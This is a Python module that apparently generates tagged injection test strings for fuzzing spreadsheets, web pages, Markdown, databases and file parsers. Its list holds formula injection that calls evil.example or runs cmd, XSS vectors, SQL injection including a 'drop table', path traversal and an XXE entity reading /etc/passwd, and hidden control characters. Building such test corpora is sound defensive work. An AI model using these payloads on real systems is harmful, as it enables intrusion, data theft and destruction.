"""Strings somebody might send to make a file, a page or a database do what they want. Each holds a word of its own, by which it is found again."""

import random

WORD = "zq{number}zq"  # in every string: by it a statement or a file is searched
BASES = (
    # spreadsheets
    "=1+1{w}", "+1+{w}", "-1+{w}", "@SUM({w})", "\t={w}", ' ="{w}"', ";={w}", "a;=1+{w}", "a\t@{w}", "＝1+{w}", "＠{w}",
    '=HYPERLINK("http://evil.example/{w}","pay")', "=cmd|' /C calc'!{w}", '=WEBSERVICE("http://evil.example/{w}")', "=IMPORTXML(\"http://evil.example/{w}\",\"//a\")",
    "_x0000_{w}", "_x000D_={w}", "'={w}", '"={w}',
    # pages
    "<script>alert('{w}')</script>", "<img src=x onerror=alert('{w}')>", "<svg/onload=alert('{w}')>", '"><a href="javascript:{w}">x</a>',
    "</style><script>{w}</script>", "<iframe src=//evil.example/{w}></iframe>", "&lt;script&gt;{w}", "<!-- {w}", "]]>{w}", "' onmouseover='{w}", "javascript:alert('{w}')",
    "data:text/html,<b>{w}</b>", "<style>@import'//evil.example/{w}'</style>", "<base href=//evil.example/{w}>", "<meta http-equiv=refresh content=0;//evil.example/{w}>",
    # Markdown and formulas of pages
    "[pay here {w}](http://evil.example/)", "![x](http://evil.example/{w})", "<http://evil.example/{w}>", "http://evil.example/{w}", "www.evil.example/{w}",
    r"$\href{{javascript:{w}}}{{x}}$", "$${w}$$", "`{w}`", "**{w}**", "# {w}", "| {w} | b |", ":material/home: {w}", ":red[{w}]", "{w}\n\n# head", "- [ ] {w}",
    # databases
    "'; drop table visits; -- {w}", "' or '1'='1 {w}", '"; select {w}; --', "$stage {w}", "{{{w}}}", "@table {w}", "%s %n {w}", "\\'; {w}", "*/ {w} /*", "{w}' union select 1 --",
    # files and XML
    "../../../etc/passwd {w}", "file:///etc/passwd {w}", "\\\\evil.example\\{w}", "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>{w}", "&b;{w}", "&#0;{w}", "&#x1b;{w}", "${{7*7}}{w}", "{{{{7*7}}}}{w}",
    # signs nobody sees, or that move what follows
    "a\x0b{w}", "a\x0c{w}", "\x1b[31m{w}", "\x1b]0;{w}\x07", "a\x08\x08{w}", "a\x1f{w}", "a\x7f{w}", "a\x85{w}", "a\x9b31m{w}", "\u202e{w}", "\u2066{w}", "\u200b=1{w}", "\ufeff={w}", "a\ufffe{w}",
    "a\r\n={w}", "a\u2028{w}", "Z̸̡{w}", "👩‍👩‍👧 {w}", "ａ{w}",
)  # fmt: skip


def strings(count: int, seed: int = 1) -> list[str]:
    """So many different ones: each base, then pairs of them, in changing letter case and behind blanks and quotes."""
    moments, found = random.Random(seed), []
    for number in range(count):
        word = WORD.format(number=number)
        text = BASES[number % len(BASES)].format(w=word)
        if number >= len(BASES):
            other = moments.choice(BASES).format(w="")
            text = moments.choice(
                (f"{text} {other}", f"{other}{text}", f" {text}", f'"{text}', f"{text}\n{other}", text.swapcase())
            )
            text = text if word in text else f"{text}{word}"
        found.append(text[:300] if word in text[:300] else word + text[:200])
    return found
